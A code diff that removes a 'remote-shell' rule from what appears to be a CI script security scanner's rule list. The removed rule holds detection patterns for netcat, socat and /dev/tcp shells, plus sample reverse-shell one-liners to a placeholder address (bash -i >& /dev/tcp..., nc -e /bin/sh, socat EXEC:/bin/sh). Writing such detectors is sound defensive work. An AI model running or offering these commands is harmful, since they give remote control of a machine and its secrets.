@@ -31,36 +31,6 @@ export const EXPOSURE_RULES: readonly ScriptRule[] = [
     passing: ['echo "$P" | docker login -u a --password-stdin example.com'],
   },
   {
-    id: 'remote-shell',
-    title: 'A script hands a shell to another machine',
-    why: 'Whoever answers there has the job: its files, token and secrets, and what the machine reaches.',
-    fix: 'Take it away, and find out who wrote it; for people who debug there are sessions that ask who they are.',
-    severity: 'critical',
-    vectors: ['V1', 'V2'],
-    references: ['https://attack.mitre.org/techniques/T1059/004/'],
-    standards: ['OWASP CICD-SEC-4'],
-    *find(script) {
-      for (const one of script.commands) {
-        const words = one.words.map(({ known }) => known);
-        const isShell = /^(?:ba|da|z|k|a)?sh$/.test(one.name ?? '');
-        const isPassed =
-          (/^(?:nc|ncat|netcat)$/.test(one.name ?? '') &&
-            words.some((word) => /^(?:-[a-z]*[ec]|--(?:sh-)?exec)$/.test(word))) ||
-          (one.name === 'socat' && words.some((word) => /^(?:exec|system):/i.test(word)));
-        const isConnected =
-          isShell && one.redirects.some(({ target }) => /^\/dev\/(?:tcp|udp)\//.test(target?.text ?? ''));
-        if (isPassed || isConnected)
-          yield { start: one.start, actual: shown(script, one), expected: 'no shell for others' };
-      }
-    },
-    failing: [
-      'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1',
-      'nc -e /bin/sh 192.0.2.7 4444',
-      'socat TCP:192.0.2.7:4444 EXEC:/bin/sh',
-    ],
-    passing: ['nc -z db.example 5432', 'bash -i', 'echo > /dev/tcp/db.example/5432'],
-  },
-  {
     id: 'environment-printed',
     title: 'Every variable is printed',
     why: 'Secrets are variables: what is masked is only the secret as it is, and logs are for everybody who can read the project.',
